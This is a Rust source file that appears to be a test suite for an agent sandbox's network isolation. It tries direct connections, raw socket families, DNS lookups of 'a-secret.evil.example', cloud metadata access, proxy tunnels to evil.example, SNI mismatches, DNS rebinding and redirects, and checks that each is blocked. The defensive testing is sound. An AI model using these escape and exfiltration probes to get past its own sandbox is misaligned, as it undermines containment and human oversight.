//! Attacks by the network: an agent without one can make no socket.

#![allow(
    clippy::disallowed_methods,
    clippy::disallowed_types,
    reason = "what a hostile program tries; nothing of it leaves the sandbox"
)]

use super::files::{flags, path};
use crate::calls::{PROXY, exchange, hello, look_up, many, request};
use crate::raw::{call, say};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::os::unix::net::UnixStream;

fn connect(what: &str, address: &str) {
    say(&format!("{what} {address}"), TcpStream::connect(address));
}

pub fn direct_connections() {
    connect("connect to", "140.82.121.3:443");
    connect("connect to", "[2606:4700::1111]:443");
    connect("connect to", "127.0.0.1:3128");
    connect("connect to", "169.254.169.254:80");
    connect("connect to", "10.1.2.3:8080");
}

pub fn other_protocols() {
    connect("ssh to", "140.82.121.3:22");
    connect("ftp to", "140.82.121.3:21");
    connect("git to", "140.82.121.3:9418");
    connect("mail to", "140.82.121.3:25");
}

pub fn names() {
    say("ask 8.8.8.8:53", UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"?", "8.8.8.8:53")));
    connect("ask by tcp", "8.8.8.8:53");
    connect("ask by tls", "1.1.1.1:853");
    let found = ("a-secret.evil.example", 443).to_socket_addrs();
    let word = if found.is_ok() { "allowed" } else { "unknown" };
    println!("look up a-secret.evil.example: {word}");
}

pub fn families() {
    for (name, family, kind) in [
        ("raw", libc::AF_INET, libc::SOCK_RAW | libc::SOCK_NONBLOCK),
        ("ping", libc::AF_INET, libc::SOCK_DGRAM),
        ("netlink", libc::AF_NETLINK, libc::SOCK_RAW),
        ("packet", libc::AF_PACKET, libc::SOCK_RAW),
        ("vsock", libc::AF_VSOCK, libc::SOCK_STREAM),
        ("alg", libc::AF_ALG, libc::SOCK_SEQPACKET),
        ("bluetooth", libc::AF_BLUETOOTH, libc::SOCK_RAW),
        ("xdp", libc::AF_XDP, libc::SOCK_RAW),
        ("tipc", libc::AF_TIPC, libc::SOCK_STREAM),
    ] {
        let protocol = if name == "ping" { libc::IPPROTO_ICMP } else { 0 };
        let arguments = [flags(family), flags(kind), flags(protocol), 0, 0, 0];
        say(&format!("socket {name}"), call(libc::SYS_socket, arguments));
    }
}

pub fn sockets_of_the_host() {
    say("connect to a socket in the project", UnixStream::connect("/project/host.sock"));
    say("socket unix", call(libc::SYS_socket, [flags(libc::AF_UNIX), 1, 0, 0, 0, 0]));
    say("may make a connected pair", UnixStream::pair());
}

/// Who has a pair of datagrams sends by it to any socket that it can name.
pub fn datagrams_to_the_host() {
    let mut pair = [0_i32; 2];
    for (name, kind) in [("datagrams", libc::SOCK_DGRAM), ("raw ones", libc::SOCK_RAW)] {
        let own = [flags(libc::AF_UNIX), flags(kind), 0, pair.as_mut_ptr() as u64, 0, 0];
        let made = call(libc::SYS_socketpair, own);
        if made.is_ok() {
            let mut address = [0_u8; 110];
            address[0] = libc::AF_UNIX as u8;
            address[2..][..19].copy_from_slice(b"/project/host.dgram");
            let to = [flags(pair[0]), path("hello"), 5, 0, address.as_ptr() as u64, 110];
            say("send to a socket in the project", call(libc::SYS_sendto, to));
        }
        say(&format!("a pair of {name}"), made);
    }
}

fn tunnel(host: &str) -> String {
    format!("CONNECT {host} HTTP/1.1\r\n\r\n")
}

/// What came back, and for honest work that it did.
fn told(what: &str, heard: &str) {
    let is_honest = what.starts_with("may ") && (heard.contains(" 200 ") || heard.contains("TLS"));
    println!("{what}: {}", if is_honest { "allowed" } else { heard });
}

const HOST: &str = "good.example";

pub fn allowed_host() {
    let by_proxy = exchange(PROXY, &[tunnel("good.example:443").as_bytes(), &hello(HOST)]);
    told("may speak TLS by the proxy", &by_proxy);
    told(
        "may ask by the proxy",
        &exchange(PROXY, &[b"GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"]),
    );
    let found = look_up("127.0.0.1:53", HOST);
    told("may speak TLS without it", &exchange(&format!("{found}:443"), &[&hello(HOST)]));
    told("may ask without it", &exchange(&format!("{found}:80"), &[request(HOST).as_bytes()]));
}

pub fn other_host() {
    told("tunnel to another", &exchange(PROXY, &[tunnel("evil.example:443").as_bytes()]));
    told("tunnel below the allowed", &exchange(PROXY, &[tunnel("x.good.example:443").as_bytes()]));
    told("tunnel to an address", &exchange(PROXY, &[tunnel("140.82.121.3:443").as_bytes()]));
    told("tunnel to a number", &exchange(PROXY, &[tunnel("2356312323:443").as_bytes()]));
    told("tunnel to itself", &exchange(PROXY, &[tunnel("127.0.0.1:3128").as_bytes()]));
}

pub fn around_the_proxy() {
    told("TLS to an address", &exchange("140.82.121.3:443", &[&hello("evil.example")]));
    told("HTTP to an address", &exchange("140.82.121.3:80", &[request("evil.example").as_bytes()]));
    told("HTTP to the machine's own", &exchange("169.254.169.254:80", &[request("x").as_bytes()]));
    told("a port nobody has", &exchange("140.82.121.3:12345", &[b"x"]));
}

pub fn other_name() {
    let asked = tunnel("good.example:443");
    told("another name in a tunnel", &exchange(PROXY, &[asked.as_bytes(), &hello("evil.example")]));
    let found = look_up("127.0.0.1:53", HOST);
    told("another name without", &exchange(&format!("{found}:443"), &[&hello("evil.example")]));
}

pub fn other_bytes() {
    let asked = tunnel("good.example:443");
    told("ssh in a tunnel", &exchange(PROXY, &[asked.as_bytes(), b"SSH-2.0-x\r\n"]));
    told("HTTP in a tunnel", &exchange(PROXY, &[asked.as_bytes(), request(HOST).as_bytes()]));
}

pub fn other_protocols_captured() {
    told("ssh", &exchange("140.82.121.3:22", &[b"SSH-2.0-x\r\n"]));
    told("ftp", &exchange("140.82.121.3:21", &[b"USER x\r\n"]));
    told("git", &exchange("140.82.121.3:9418", &[b"0032git-upload-pack"]));
    told("mail", &exchange("140.82.121.3:25", &[b"EHLO x\r\n"]));
}

pub fn other_port() {
    told("another port", &exchange(PROXY, &[tunnel("good.example:9999").as_bytes()]));
    told("ssh's port", &exchange(PROXY, &[tunnel("good.example:22").as_bytes()]));
}

pub fn names_captured() {
    for server in ["8.8.8.8:53", "127.0.0.1:53"] {
        told(&format!("ask {server}"), &look_up(server, "a-secret.evil.example"));
    }
    told("by tls", &exchange("1.1.1.1:853", &[&hello("one.one.one.one")]));
    told("by https", &exchange("1.1.1.1:443", &[&hello("one.one.one.one")]));
}

pub fn private_addresses() {
    for host in ["loop", "cloud", "lan", "six", "ula", "carrier"] {
        let asked = tunnel(&format!("{host}.example:443"));
        let heard = exchange(PROXY, &[asked.as_bytes(), &hello(&format!("{host}.example"))]);
        told(&format!("tunnel to {host}.example"), &heard);
    }
}

pub fn rebinding() {
    let asked = tunnel("turn.example:443");
    let speak = || exchange(PROXY, &[asked.as_bytes(), &hello("turn.example")]);
    told("may speak where the first answer leads", &speak());
    told("where the second answer leads", &speak());
}

pub fn redirect() {
    let away = b"GET http://good.example/away HTTP/1.1\r\nHost: good.example\r\n\r\n";
    println!("sent away by the allowed host: {}", exchange(PROXY, &[away]));
    let there = b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n";
    told("go there", &exchange(PROXY, &[there]));
}

pub fn too_many() {
    println!("requests without end: {}", many(500, HOST));
}
